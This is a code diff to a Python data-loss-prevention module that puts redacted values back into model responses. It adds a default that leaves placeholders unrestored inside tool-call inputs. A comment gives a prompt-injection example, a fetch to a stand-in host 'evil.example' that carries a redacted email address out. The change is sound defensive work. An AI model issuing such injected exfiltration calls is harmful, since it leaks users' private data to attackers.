@@ -37,6 +37,11 @@ MAX_PLACEHOLDER = 80
 _PARTIAL_RX = re.compile(r"(?:<|&(?:l(?:t(?:;)?)?)?(?=\Z)|&lt;)[A-Z0-9_]*\Z")
 #: Strings whose content is JSON text: a value restored into them is escaped for that inner JSON.
 JSON_TEXT_KEYS = frozenset({"arguments", "partial_json"})
+#: Where a model's tool calls carry their inputs (OpenAI `arguments`, Anthropic `input` / `partial_json`, Gemini
+#: `functionCall.args`, Bedrock `toolUse`). Values are not restored there by default: a prompt-injected tool call
+#: such as fetch("https://evil.example/?q=<EMAIL_ADDRESS_1>") must not get the real value back and carry it out.
+TOOL_INPUT_KEYS = frozenset({"arguments", "partial_json", "input", "args", "functionCall", "function_call",
+                             "toolUse", "tool_calls", "tool_use"})
 #: Keys whose strings are pieces of a delta: blanked in the copy that carries a channel's held text.
 _DELTA_KEYS = frozenset({"content", "text", "delta", "partial_json", "arguments", "thinking"})
 
@@ -49,8 +54,15 @@ class Restorer:
     """Placeholder -> original value (dlp.redact.Placeholders.values), applied to text; both spellings of a
     placeholder (`<X_1>`, and `&lt;X_1&gt;` in markup) are restored, as by Placeholders.restore."""
 
-    def __init__(self, values: Mapping[str, str]):
+    def __init__(self, values: Mapping[str, str], restore_tool_inputs: bool = False):
         self.values = dict(values)
+        self.restore_tool_inputs = restore_tool_inputs
+
+    def at(self, value: str, key: str | int, path: Path) -> str:
+        """A string of a JSON answer at `path`, restored unless it is a tool call's input (see TOOL_INPUT_KEYS)."""
+        if not self.restore_tool_inputs and any(k in TOOL_INPUT_KEYS for k in path if isinstance(k, str)):
+            return value
+        return self.text(value, key in JSON_TEXT_KEYS)
 
     def text(self, text: str, json_text: bool = False) -> str:
         if "<" not in text and "&lt;" not in text:
@@ -78,8 +90,8 @@ class Restorer:
             except UnicodeDecodeError:
                 return body
         changed = False
-        for container, key, _path, value in list(_strings(data)):
-            restored = self.text(value, key in JSON_TEXT_KEYS)
+        for container, key, path, value in list(_strings(data)):
+            restored = self.at(value, key, path)
             if restored != value:
                 container[key] = restored
                 changed = True
@@ -203,7 +215,7 @@ class StreamedAnswer:
             held = self.held.pop(path, None)
             text = held.text + value if held else value
             ready, pending = _split_partial(text)
-            restored = self.restorer.text(ready, key in JSON_TEXT_KEYS)
+            restored = self.restorer.at(ready, key, path)
             if pending:
                 self.held[path] = _Held(pending, event, None, path)
             if restored != value:
@@ -249,7 +261,7 @@ class StreamedAnswer:
         data = held.template if held.template is not None else held.event.data
         for container, key, p, _value in list(_strings(data)):
             if p == path:
-                container[key] = self.restorer.text(held.text, key in JSON_TEXT_KEYS)
+                container[key] = self.restorer.at(held.text, key, p)
             elif key in _DELTA_KEYS:
                 container[key] = ""
         return held.event.render(data)
